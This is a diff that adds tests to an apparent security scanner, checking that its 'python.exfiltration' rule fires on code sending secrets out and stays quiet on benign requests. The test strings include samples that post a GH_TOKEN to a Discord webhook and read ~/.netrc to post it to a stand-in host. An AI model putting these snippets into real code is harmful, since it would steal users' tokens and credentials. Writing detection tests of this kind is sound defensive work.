@@ -216,3 +216,36 @@ def test_capabilities_see_hosts_built_at_run_time() -> None:
     )
     caps = infer({"t.py": ("python", source)})
     assert {"x.io", "198.51.100.9"} <= set(caps.hosts)
+
+
+def test_one_secret_to_a_collector_is_theft_but_not_to_its_own_api() -> None:
+    to_webhook = (
+        "import os, requests\n"
+        "requests.post('https://discord.com/api/webhooks/1/abc',\n"
+        "              json={'c': os.environ['GH_TOKEN']})\n"
+    )
+    to_api = (
+        "import os, requests\n"
+        "requests.get('https://api.github.com/user',\n"
+        "             headers={'Authorization': os.environ['GH_TOKEN']})\n"
+    )
+    notify = (
+        "import requests\n"
+        "requests.post('https://hooks.slack.com/services/T/B/X', json={'text': 'ok'})\n"
+    )
+    assert "python.exfiltration" in _rules(to_webhook)
+    assert "python.exfiltration" not in _rules(to_api)
+    assert "python.exfiltration" not in _rules(notify)
+
+
+def test_clients_kept_on_self_are_sinks() -> None:
+    source = (
+        "import os, requests\n"
+        "class Up:\n"
+        "    def __init__(self):\n"
+        "        self.session = requests.Session()\n"
+        "    def go(self):\n"
+        "        key = open(os.path.expanduser('~/.netrc')).read()\n"
+        "        self.session.post('https://x.example.net', data=key)\n"
+    )
+    assert "python.exfiltration" in _rules(source)
